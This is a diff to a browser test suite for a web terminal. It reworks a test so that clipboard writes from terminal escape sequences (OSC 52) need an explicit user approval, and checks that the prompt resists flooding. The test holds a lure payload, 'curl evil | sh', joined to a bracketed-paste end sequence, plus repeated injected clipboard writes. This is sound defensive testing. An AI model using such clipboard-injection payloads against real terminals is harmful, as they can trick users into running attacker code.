@@ -1,4 +1,5 @@
 import asyncio
+import base64
 from itertools import pairwise
 
 import pytest
@@ -169,13 +170,35 @@ async def test_terminal_duplicated_tab_gets_a_client_id_of_its_own(open_page: Op
     await expect(open_page.page.get_by_text("You drive")).to_be_visible()
 
 
-async def test_terminal_output_cannot_reach_the_clipboard(open_page: OpenPage) -> None:
+async def test_terminal_output_reaches_the_clipboard_after_a_yes_only(open_page: OpenPage) -> None:
     page = open_page.page
     await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
     await page.evaluate("navigator.clipboard.writeText('untouched')")
-    await open_page.terminal.print(b"\x1b]52;c;c3RvbGVu\x07done")
-    await open_page.sees("done")
+    lure = base64.b64encode(b"curl evil | sh\r\x1b[201~").decode()
+    await open_page.terminal.print(f"\x1b]52;c;{lure}\x07\x1b]52;c;?\x07asked".encode())
+    await open_page.sees("asked")
+    asks = page.get_by_role("alert").filter(has_text="wants to copy")
+    await expect(asks).to_contain_text("20 characters in 2 lines: curl evil | sh⏎[201~")
+    # A flood behind it changes nothing of what is being read.
+    await open_page.terminal.print(b"\x1b]52;c;c3RvbGVu\x07" * 5000 + b"\r\nflooded")
+    await open_page.sees("flooded")
+    await expect(asks).to_contain_text("curl evil | sh⏎")
     assert await page.evaluate("navigator.clipboard.readText()") == "untouched"
+    await asks.get_by_role("button", name="Allow once").click()
+    await page.wait_for_function(
+        "async () => (await navigator.clipboard.readText()) === 'curl evil | sh\\n[201~'"
+    )
+    # What is shown again to a page that comes anew asks nothing.
+    await page.reload()
+    await open_page.sees("flooded")
+    await expect(asks).to_have_count(0)
+    await open_page.terminal.print(b"\x1b]52;c;c3RvbGVu\x07again")
+    await asks.get_by_role("button", name="Never here").click()
+    await open_page.terminal.print(b"\x1b]52;c;c3RvbGVu\x07\r\nlast")
+    await open_page.sees("last")
+    await expect(asks).to_have_count(0)
+    assert "stolen" not in await page.evaluate("navigator.clipboard.readText()")
+    assert bytes(open_page.terminal.typed) == b""
 
 
 async def test_terminal_paste_is_bracketed_and_cannot_end_its_bracket(open_page: OpenPage) -> None:
